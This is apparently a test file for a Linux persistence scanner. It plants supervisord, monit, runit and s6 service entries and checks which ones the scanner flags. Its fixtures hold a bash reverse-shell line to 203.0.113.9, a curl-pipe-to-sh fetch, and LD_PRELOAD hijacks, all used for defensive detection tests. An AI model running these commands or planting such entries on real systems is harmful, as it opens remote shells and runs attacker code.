/**
 * Process supervisors (sources/supervisors.ts, service_dirs.ts): the programs supervisord and monit keep running
 * and the run scripts of runit, daemontools and s6 service directories, read as the daemons read them (includes,
 * comments, continuation lines, what they would not start). Each planted program fires through the shared
 * command checks and stays quiet on the packages' own files (Debian's supervisord.conf, monitrc with every
 * conf-available example enabled, runit's service directories; tests/scanners/stock_roots_test.ts holds them too).
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  environmentPairs,
  mergeSupervisord,
  parseMonitrc,
  parseSupervisordConf,
  supervisedPrograms,
} from "../../src/scanners/persistence/sources/supervisors_parse.ts";
import { fixtureRoot, makeTree, runOne } from "../helpers.ts";
import { installedCopy } from "./stock_fixture.ts";
import { exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";
/** Debian's files, as supervisor 4.2.5-1, monit 1:5.33.0-1 and runit 2.1.2-54 ship them (the stock root's copies). */
const stock = (path: string) => Deno.readTextFileSync(`${fixtureRoot("stock/debian12")}/${path}`);
const DEBIAN_SUPERVISORD = stock("etc/supervisor/supervisord.conf");
const DEBIAN_MONITRC = stock("etc/monit/monitrc");

// ---------------------------------------------------------------------------------------------------------------
// Parsers

Deno.test("supervisord parser: sections, continued values, `;` and `#` comments after a blank, [DEFAULT], %(here)s", () => {
  const conf = parseSupervisordConf(
    [
      "; comment",
      "[program:web]",
      "Command = /usr/bin/python3 -m http.server ; a comment",
      "  --bind 127.0.0.1 # another",
      "autostart=FALSE",
      "[program:tag]",
      "command=/opt/x#not-a-comment %(here)s/bin/y %%d %(ENV_HOME)s",
      "   # a comment line inside the value",
      "[DEFAULT]",
      "user = www-data",
      "stray line outside a key",
      "[eventlistener:ev]",
      "command:/usr/local/bin/listener",
      "[group:g]",
      "programs=web,tag",
    ].join("\r\n"),
    "/etc/supervisor/conf.d",
  );
  assert.equal(conf.bad, 1);
  const programs = supervisedPrograms(mergeSupervisord([{ path: "/etc/supervisor/conf.d/x.conf", conf }]));
  assert.deepEqual(programs.map((p) => [p.section, p.command?.value, p.command?.line, p.user, p.autostart]), [
    ["program:web", "/usr/bin/python3 -m http.server\n--bind 127.0.0.1", 3, "www-data", false],
    ["program:tag", "/opt/x#not-a-comment /etc/supervisor/conf.d/bin/y %d %(ENV_HOME)s", 7, "www-data", true],
    ["eventlistener:ev", "/usr/local/bin/listener", 13, "www-data", true],
  ]);
});

Deno.test("supervisord parser: a later file's keys replace an earlier one's, section by section", () => {
  const a = parseSupervisordConf("[program:x]\ncommand=/bin/true\nuser=nobody\n", "/etc");
  const b = parseSupervisordConf("[program:x]\ncommand=/tmp/.x\n", "/etc/conf.d");
  const [p] = supervisedPrograms(mergeSupervisord([{ path: "/a", conf: a }, { path: "/b", conf: b }]));
  assert.deepEqual([p.command, p.user], [{ value: "/tmp/.x", line: 2, file: "/b" }, "nobody"]);
});

Deno.test("supervisord environment=: comma-separated pairs, quotes holding commas, adjacent parts joined", () => {
  assert.deepEqual(environmentPairs('A="1,2",LD_PRELOAD=/tmp/x.so, B = 3,C=\'a b\'"c",=x,D'), [
    { name: "A", value: "1,2" },
    { name: "LD_PRELOAD", value: "/tmp/x.so" },
    { name: "B", value: "3" },
    { name: "C", value: "a bc" },
  ]);
});

Deno.test("monit parser: start/stop/restart methods, exec actions, check program paths, as uid, includes", () => {
  const conf = parseMonitrc([
    '# start program = "/commented"',
    "set daemon 120 with start delay 240",
    'check process web matching "web"',
    '  START PROGRAM = "/etc/init.d/web start" as uid "www-data" and gid "www-data"',
    '  stop program="/bin/sh -c \'kill "$(cat /run/web.pid)"\'"',
    "  restart = '/sbin/ipup eth0'",
    '  startprogram "/usr/local/sbin/web-up"',
    "  if failed port 80 then restart",
    '  if 3 restarts within 5 cycles then exec "/usr/local/bin/alert.sh"',
    "     AS UID 33",
    "check program exec with path /usr/local/bin/check.sh --level=2 as uid nobody",
    '  if status != 0 then execute "/usr/local/bin/a\n  b"',
    'check file conf with path "/etc/web.conf"',
    "  include /etc/monit/templates/rootrc",
    'include "/etc/monit/my conf.d/*"',
  ].join("\n"));
  assert.deepEqual(conf.commands, [
    { line: 4, action: "start", command: "/etc/init.d/web start", service: "web", uid: "www-data" },
    { line: 5, action: "stop", command: "/bin/sh -c 'kill \"$(cat /run/web.pid)\"'", service: "web" },
    { line: 6, action: "restart", command: "/sbin/ipup eth0", service: "web" },
    { line: 7, action: "start", command: "/usr/local/sbin/web-up", service: "web" },
    { line: 9, action: "exec", command: "/usr/local/bin/alert.sh", service: "web", uid: "33" },
    {
      line: 11,
      action: "program",
      command: "/usr/local/bin/check.sh --level=2",
      service: "exec",
      uid: "nobody",
    },
    { line: 12, action: "exec", command: "/usr/local/bin/a b", service: "exec" },
  ]);
  assert.deepEqual(conf.includes, [
    { line: 15, pattern: "/etc/monit/templates/rootrc" },
    { line: 16, pattern: "/etc/monit/my conf.d/*" },
  ]);
  assert.equal(conf.bad, 0);
  assert.deepEqual(parseMonitrc(DEBIAN_MONITRC), {
    commands: [],
    includes: [{ line: 313, pattern: "/etc/monit/conf.d/*" }, {
      line: 314,
      pattern: "/etc/monit/conf-enabled/*",
    }],
    bad: 0,
  });
});

Deno.test("supervisor parsers: malformed input never throws, and the time grows linearly with the size", () => {
  const shapes: [string, (n: number) => string][] = [
    ["long line of blanks", (n) => `[program:x]\ncommand=${" ".repeat(n)}x\n`],
    ["continuation lines", (n) => `[program:x]\ncommand=/x\n${" a\n".repeat(n / 3)}`],
    ["hashes without blanks", (n) => `[program:x]\ncommand=${"a#".repeat(n / 2)}\n`],
    ["blank-hash runs", (n) => ` #${" #".repeat(n / 2)}\n`],
    ["brackets", (n) => "[".repeat(n)],
    ["sections", (n) => "[program:x]\n".repeat(n / 12)],
    ["environment quotes", (n) => `[program:x]\nenvironment=A=${"'a'".repeat(n / 3)}\n`],
    ["environment equals", (n) => `[program:x]\nenvironment=${"=".repeat(n)}\n`],
    ["monit open argument list", (n) => `start program = "${"'a' ".repeat(n / 4)}`],
    ["monit unbalanced quotes", (n) => `start "'${'"'.repeat(n)}`],
    ["monit single quotes", (n) => "'".repeat(n)],
    ["monit strings", (n) => '"a" '.repeat(n / 4)],
    ["monit bare path arguments", (n) => `check program x with path /x${" a".repeat(n / 2)}\n`],
    ["monit keywords", (n) => "exec start check include\n".repeat(n / 25)],
    ["monit comments", (n) => "# x\n".repeat(n / 4)],
    ["NUL and invalid text", (n) => "\0\uFFFD\r".repeat(n / 3)],
  ];
  const parseAll = (text: string) => {
    const conf = parseSupervisordConf(text, "/etc");
    for (const p of supervisedPrograms(mergeSupervisord([{ path: "/x", conf }]))) {
      environmentPairs(p.environment?.value ?? "");
    }
    environmentPairs(text);
    return parseMonitrc(text).commands.length;
  };
  assertLinear(parseAll, shapes);
});

// ---------------------------------------------------------------------------------------------------------------
// supervisord

Deno.test("persistence: supervisord programs fire — through Debian's include glob, RHEL's relative one, as their user", async () => {
  using root = makeTree(withAccounts({
    "etc/supervisor/supervisord.conf": DEBIAN_SUPERVISORD,
    "etc/supervisor/conf.d/health.conf": [
      "[program:health]",
      "command = /bin/bash -c",
      `   "${REVERSE}"  ; keeps the session`,
      "autorestart=true",
      "",
      "[program:web]",
      "command=/usr/bin/python3 -m http.server",
      "user=www-data",
      "environment=PYTHONUNBUFFERED=1,LD_PRELOAD=/tmp/.l/libx.so",
    ].join("\n") + "\n",
    // RHEL: /etc/supervisord.conf includes supervisord.d/*.ini, relative to its own directory.
    "etc/supervisord.conf":
      "[supervisord]\nenvironment=LD_PRELOAD=/dev/shm/g.so\n[include]\nfiles = supervisord.d/*.ini\n",
    "etc/supervisord.d/agent.ini": [
      "[eventlistener:agent]",
      `command=/bin/sh -c "${FETCH}"`,
      "events=TICK_60",
      "[fcgi-program:php]",
      "command=%(here)s/../../var/tmp/.php-fpm",
      "socket=unix:///run/php.sock",
      "user=1000",
    ].join("\n") + "\n",
    "var/tmp/.php-fpm": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/supervisor/conf.d/health.conf:2",
    "high persistence.command.download_exec /etc/supervisord.d/agent.ini:2",
    "high persistence.command.untrusted_path /etc/supervisord.d/agent.ini:5",
    "high persistence.environment.loader_var /etc/supervisor/conf.d/health.conf:9",
    "high persistence.environment.loader_var /etc/supervisord.conf:2",
  ]);
  const runAs = (line: number) =>
    r.findings.find((f) => f.metadata.kind === "supervised_program" && f.metadata.line === line)?.metadata
      .run_as;
  assert.deepEqual([runAs(2), runAs(5)], ["root", "alice"]);
  const web = r.findings.find((f) =>
    f.check_id === "persistence.environment.loader_var" && f.metadata.line === 9
  );
  assert.equal(web?.metadata.run_as, "www-data");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: supervisord's own user= binds every program; [DEFAULT] keys reach every section", async () => {
  using root = makeTree(withAccounts({
    "etc/supervisord.conf": [
      "[supervisord]",
      "user=bob",
      "[DEFAULT]",
      "command=/var/tmp/.d",
      "[program:a]",
      "user=root",
    ].join("\n") + "\n",
    "var/tmp/.d": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  const f = r.findings.filter((f) => f.check_id === "persistence.command.untrusted_path");
  assert.deepEqual(f.map((x) => [x.metadata.path, x.metadata.line, x.metadata.run_as]), [
    ["/etc/supervisord.conf", 4, "bob"],
  ]);
});

Deno.test("persistence: a control server open to others fires; Debian's 0700 socket and a password stay quiet", async () => {
  using open = makeTree(withAccounts({
    "etc/supervisord.conf":
      "[inet_http_server]\nport=*:9001\n[unix_http_server]\nfile=/run/s.sock\nchmod=0777\n",
    "etc/supervisor/supervisord.conf": "[inet_http_server]\nport = 127.0.0.1:9001\n",
  }));
  const r = await runOne(persistence, open.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), [
    "low persistence.supervisord.open_control /etc/supervisor/supervisord.conf:2",
    "low persistence.supervisord.open_control /etc/supervisord.conf:5",
    "medium persistence.supervisord.open_control /etc/supervisord.conf:2",
  ]);
  using closed = makeTree(withAccounts({
    "etc/supervisor/supervisord.conf": DEBIAN_SUPERVISORD,
    "etc/supervisord.conf": "[inet_http_server]\nport=*:9001\nusername=admin\npassword={SHA}x\n",
  }));
  const q = await runOne(persistence, closed.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(q.findings), []);
});

Deno.test("persistence: what supervisord would not start stays quiet — autostart=false, files no glob matches, nested includes", async () => {
  using root = makeTree(withAccounts({
    "etc/supervisor/supervisord.conf": DEBIAN_SUPERVISORD,
    "etc/supervisor/conf.d/off.conf": [
      "[program:off]",
      `command=/bin/bash -c "${REVERSE}"`,
      "autostart = off",
      "environment=LD_PRELOAD=/tmp/x.so",
      "[include]",
      "files=/etc/supervisor/extra/*",
    ].join("\n") + "\n",
    "etc/supervisor/conf.d/health.ini": `[program:x]\ncommand=${FETCH}\n`,
    "etc/supervisor/conf.d/.hidden.conf": `[program:x]\ncommand=${FETCH}\n`,
    "etc/supervisor/extra/nested.conf": `[program:y]\ncommand=${FETCH}\n`,
    "etc/supervisor/conf.d/comment.conf": `[program:z]\ncommand=/bin/true ;${REVERSE}\n# command=${FETCH}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.deepEqual(fired(r.findings), []);
  const points = r.findings.filter((f) => f.metadata.kind === "supervised_program")
    .map((f) => `${f.metadata.path} ${f.metadata.entry_count}${f.metadata.inert ? " inert" : ""}`);
  assert.deepEqual(points, [
    "/etc/supervisor/supervisord.conf 0",
    "/etc/supervisor/conf.d/comment.conf 1",
    "/etc/supervisor/conf.d/off.conf 1 inert",
  ]);
});

// ---------------------------------------------------------------------------------------------------------------
// monit

Deno.test("persistence: monit programs fire — exec actions, check program paths, start methods, through includes", async () => {
  using root = makeTree(withAccounts({
    "etc/monit/monitrc": DEBIAN_MONITRC,
    "etc/monit/conf.d/health": [
      'check program health with path "/tmp/.m/check --quiet"',
      '  if status != 0 then exec "/dev/shm/.fix" as uid www-data',
      "include /etc/monit/health.d/*.cfg",
    ].join("\n") + "\n",
    "etc/monit/health.d/web.cfg": [
      'CHECK PROCESS web MATCHING "nginx"',
      `  start program = "/bin/sh -c '${FETCH}'"`,
      '  stop program = "/etc/init.d/nginx stop"',
    ].join("\n") + "\n",
    "etc/monit/health.d/web.cfg~":
      `check process x matching x\n  start program = "/bin/sh -c '${REVERSE}'"\n`,
    "tmp/.m/check": exe("#!/bin/sh\n"),
    "dev/shm/.fix": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /etc/monit/health.d/web.cfg:2",
    "high persistence.command.untrusted_path /etc/monit/conf.d/health:1",
    "high persistence.command.untrusted_path /etc/monit/conf.d/health:2",
  ]);
  const exec = r.findings.find((f) =>
    f.metadata.line === 2 && f.metadata.path === "/etc/monit/conf.d/health"
  );
  assert.equal(exec?.metadata.run_as, "www-data");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: Debian's monitrc with every shipped conf-available example enabled is read, and quiet", async () => {
  using root = installedCopy("debian12");
  const available = [...Deno.readDirSync(`${root.path}/etc/monit/conf-available`)].map((e) => e.name).sort();
  Deno.mkdirSync(`${root.path}/etc/monit/conf-enabled`);
  for (const name of available) {
    Deno.symlinkSync(`../conf-available/${name}`, `${root.path}/etc/monit/conf-enabled/${name}`);
  }
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const points = r.findings.filter((f) =>
    f.metadata.kind === "supervised_program" && f.metadata.runner === "monit"
  );
  assert.equal(available.length, 15);
  // monitrc, its fifteen examples (each a start and a stop method) and the three templates they include.
  assert.equal(points.length, 1 + 15 + 3);
  assert.ok(points.every((p) => !p.metadata.inert));
  assert.equal(points.reduce((n, p) => n + Number(p.metadata.entry_count), 0), 30);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: monit files nothing includes are inert", async () => {
  using root = makeTree(withAccounts({
    "etc/monit/monitrc": "set daemon 60\n# include /etc/monit/conf.d/*\n",
    "etc/monit/conf.d/x": `check program x with path "/bin/sh -c '${REVERSE}'"\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.deepEqual(fired(r.findings), []);
  const x = r.findings.find((f) => f.metadata.path === "/etc/monit/conf.d/x");
  assert.equal(x?.metadata.inert, true);
});

// ---------------------------------------------------------------------------------------------------------------
// runit, daemontools, s6

Deno.test("persistence: service directory scripts fire — runit (run, log/run, control/t, stages), s6-overlay, s6-rc, daemontools", async () => {
  using root = makeTree(withAccounts({
    // Debian's runit: /etc/service -> runsvdir/current -> default, whose links name /etc/sv definitions.
    "etc/service": { symlink: "runit/runsvdir/current" },
    "etc/runit/runsvdir/current": { symlink: "/etc/runit/runsvdir/default" },
    "etc/runit/runsvdir/default/health": { symlink: "/etc/sv/health" },
    "etc/sv/health/run": exe(`#!/bin/sh\nexec 2>&1\n${FETCH}\nexec sleep 3600\n`),
    "etc/sv/health/log/run": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/sv/health/control/t": exe(`#!/bin/sh\n${FETCH}\n`),
    "service/agent/run": exe("#!/bin/sh\nexec /var/tmp/.agent\n"),
    "service/bin/run": { symlink: "/dev/shm/y" },
    "etc/runit/1": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/services.d/web/run": exe(`#!/command/execlineb -P\nbash -c "${REVERSE}"\n`),
    "etc/cont-init.d/10-setup": exe(`#!/bin/sh\n${FETCH}\n`),
    "etc/s6-overlay/s6-rc.d/init-x/type": "oneshot\n",
    "etc/s6-overlay/s6-rc.d/init-x/up": `/bin/sh -c "${FETCH}"\n`,
    "etc/s6-overlay/s6-rc.d/svc-y/type": "longrun\n",
    "etc/s6-overlay/s6-rc.d/svc-y/run": exe("#!/bin/sh\nexec /dev/shm/y\n"),
    "var/tmp/.agent": exe("\x7fELF"),
    "dev/shm/y": exe("\x7fELF"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/runit/1:2",
    "critical persistence.command.reverse_shell /etc/services.d/web/run:2",
    "critical persistence.command.reverse_shell /etc/sv/health/log/run:2",
    "high persistence.command.download_exec /etc/cont-init.d/10-setup:2",
    "high persistence.command.download_exec /etc/s6-overlay/s6-rc.d/init-x/up:1",
    "high persistence.command.download_exec /etc/sv/health/control/t:2",
    "high persistence.command.download_exec /etc/sv/health/run:3",
    "high persistence.command.untrusted_path /dev/shm/y",
    "high persistence.command.untrusted_path /etc/s6-overlay/s6-rc.d/svc-y/run:2",
    "high persistence.command.untrusted_path /service/agent/run:2",
  ]);
  // A binary run (here a link to one) is the program itself, judged where it really is.
  const bin = r.findings.find((f) =>
    f.metadata.path === "/dev/shm/y" && f.check_id !== "persistence.inventory.point"
  );
  assert.equal(bin?.metadata.link, "/service/bin/run");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: services that do not run stay quiet — a down file, not enabled, not executable, hidden", async () => {
  using root = makeTree(withAccounts({
    "etc/service/down/run": exe(`#!/bin/sh\n${FETCH}\n`),
    "etc/service/down/down": "",
    "etc/service/noexec/run": { content: `#!/bin/sh\n${FETCH}\n`, mode: 0o644 },
    "etc/service/.hidden/run": exe(`#!/bin/sh\n${FETCH}\n`),
    "etc/sv/disabled/run": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/runit/runsvdir/default/.disabled": { symlink: "/etc/sv/disabled" },
    "etc/s6-overlay/s6-rc.d/bundle/type": "bundle\n",
    "etc/s6-overlay/s6-rc.d/bundle/run": exe(`#!/bin/sh\n${FETCH}\n`),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.deepEqual(fired(r.findings), []);
  const points = r.findings.filter((f) => f.metadata.kind === "supervised_program")
    .map((f) => `${f.metadata.path}: ${f.metadata.skipped}`).sort();
  assert.deepEqual(points, [
    "/etc/service/down/run: a down file: not started",
    "/etc/service/noexec/run: not executable",
    "/etc/sv/disabled/run: not linked into a scan directory (not enabled)",
  ]);
});

Deno.test("persistence: Debian's runit service directories are read (svlogd enabled as a log service), and quiet", async () => {
  using root = installedCopy("debian12");
  Deno.mkdirSync(`${root.path}/etc/sv/default-syslog/log`);
  Deno.symlinkSync("../../svlogd/run", `${root.path}/etc/sv/default-syslog/log/run`);
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  const points = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "supervised_program" &&
    f.metadata.runner !== "monit"
  ).map((f) => `${f.metadata.path} ${f.metadata.entry_count}${f.metadata.inert ? " inert" : ""}`);
  assert.deepEqual(points, [
    "/etc/supervisor/supervisord.conf 0",
    "/etc/sv/default-syslog/run 2",
    "/etc/sv/default-syslog/check 8",
    "/etc/sv/svlogd/run 25",
    "/etc/runit/runsvdir/single/sulogin/run 2",
    "/etc/runit/1 20",
    "/etc/runit/2 24",
    "/etc/runit/3 18",
    "/etc/runit/ctrlaltdel 6",
  ]);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});
